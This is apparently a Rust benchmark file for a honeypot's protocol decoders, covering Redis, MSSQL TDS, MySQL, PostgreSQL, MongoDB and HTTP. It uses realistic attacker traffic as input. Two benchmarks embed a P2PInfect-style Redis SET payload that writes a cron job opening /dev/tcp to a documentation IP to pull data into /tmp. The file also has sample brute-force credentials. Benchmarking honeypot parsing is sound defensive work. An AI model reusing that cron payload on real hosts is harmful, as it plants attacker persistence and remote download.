//! Protocol codec micro-benchmarks: the per-frame cost every honeypot
//! session pays. Run: `cargo bench -p decoy-bench --bench wire_codecs`

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use decoy_store::normalize_action;
use decoy_wire::buf::RecvBuf;
use decoy_wire::codec::Codec;
use decoy_wire::mongo::bson::{doc, Bson};
use decoy_wire::mongo::{MongoCodec, MongoMessage};
use decoy_wire::{http, mysql, pgwire, resp, tds};
use std::hint::black_box;

fn bench(c: &mut Criterion) {
    // RESP: the P2PInfect SET command (payload-heavy frame)
    let set_cmd = resp::RespValue::command(&[
        "SET",
        "x",
        "*/1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080 && cat 0<&6 >/tmp/deadbeef",
    ]);
    let mut codec = resp::RespCodec::server();
    let mut resp_bytes = Vec::new();
    codec.encode(&set_cmd, &mut resp_bytes).unwrap();
    let mut group = c.benchmark_group("resp");
    group.throughput(Throughput::Bytes(resp_bytes.len() as u64));
    group.bench_function("decode_set_command", |b| {
        b.iter(|| {
            let mut buf = RecvBuf::from(resp_bytes.clone());
            black_box(codec.decode(&mut buf).unwrap())
        })
    });
    group.bench_function("encode_set_command", |b| {
        b.iter(|| {
            let mut buf = Vec::new();
            codec.encode(black_box(&set_cmd), &mut buf).unwrap();
            black_box(buf)
        })
    });
    group.finish();

    // TDS LOGIN7: build + parse (the hot path of 18M brute attempts)
    let login = tds::Login7 {
        hostname: "WIN-SCAN".into(),
        username: "sa".into(),
        password: "P@ssw0rd".into(),
        appname: "OSQL-32".into(),
        servername: "10.0.0.1".into(),
        database: "master".into(),
    };
    let login_bytes = login.build();
    let mut group = c.benchmark_group("tds");
    group.throughput(Throughput::Bytes(login_bytes.len() as u64));
    group.bench_function("login7_build", |b| b.iter(|| black_box(login.build())));
    group.bench_function("login7_parse", |b| {
        b.iter(|| black_box(tds::Login7::parse(&login_bytes).unwrap()))
    });
    group.finish();

    // MySQL handshake response
    let mysql_login = mysql::LoginRequest::cleartext("root", "123456", None);
    let mysql_bytes = mysql_login.build();
    c.bench_function("mysql/login_parse", |b| {
        b.iter(|| black_box(mysql::LoginRequest::parse(&mysql_bytes).unwrap()))
    });

    // PostgreSQL startup
    let mut client = pgwire::PgClientCodec::new();
    let mut startup_bytes = Vec::new();
    client
        .encode(
            &pgwire::FrontendMessage::Startup {
                params: vec![
                    ("user".into(), "postgres".into()),
                    ("database".into(), "postgres".into()),
                ],
            },
            &mut startup_bytes,
        )
        .unwrap();
    c.bench_function("pgwire/startup_decode", |b| {
        b.iter(|| {
            let mut server = pgwire::PgServerCodec::new();
            let mut buf = RecvBuf::from(startup_bytes.clone());
            black_box(server.decode(&mut buf).unwrap())
        })
    });

    // BSON: a fake customer record
    let customer = doc! {
        "name" => "James Smith",
        "address" => "123 Johnson Street",
        "phone" => "+1-555-0100",
        "credit_card" => "4111111111111111",
        "tags" => vec![Bson::Int32(1), Bson::Int32(2)],
    };
    let msg = MongoMessage::msg(1, customer);
    let mut mongo = MongoCodec;
    let mut mongo_bytes = Vec::new();
    mongo.encode(&msg, &mut mongo_bytes).unwrap();
    let mut group = c.benchmark_group("mongo");
    group.throughput(Throughput::Bytes(mongo_bytes.len() as u64));
    group.bench_function("op_msg_roundtrip", |b| {
        b.iter(|| {
            let mut buf = RecvBuf::from(mongo_bytes.clone());
            black_box(mongo.decode(&mut buf).unwrap())
        })
    });
    group.finish();

    // HTTP request parse (Elasticpot's hot path)
    let mut http_client = http::HttpClientCodec;
    let mut http_bytes = Vec::new();
    http_client
        .encode(
            &http::HttpRequest::new("POST", "/_search")
                .with_body("application/json", r#"{"query":{"match_all":{}}}"#),
            &mut http_bytes,
        )
        .unwrap();
    c.bench_function("http/request_decode", |b| {
        b.iter(|| {
            let mut server = http::HttpServerCodec;
            let mut buf = RecvBuf::from(http_bytes.clone());
            black_box(server.decode(&mut buf).unwrap())
        })
    });

    // action masking (runs once per logged command)
    c.bench_function("mask/normalize_p2pinfect", |b| {
        b.iter(|| {
            black_box(normalize_action(
                "SET x */1 * * * * root exec 6<>/dev/tcp/198.51.100.1/8080 && cat 0<&6 >/tmp/0123456789abcdef",
            ))
        })
    });
}

criterion_group! {
    name = benches;
    // experiment analyses run hundreds of ms per iteration; 10 samples keep
    // the full `cargo bench` sweep in minutes
    config = Criterion::default().sample_size(10);
    targets = bench
}
criterion_main!(benches);
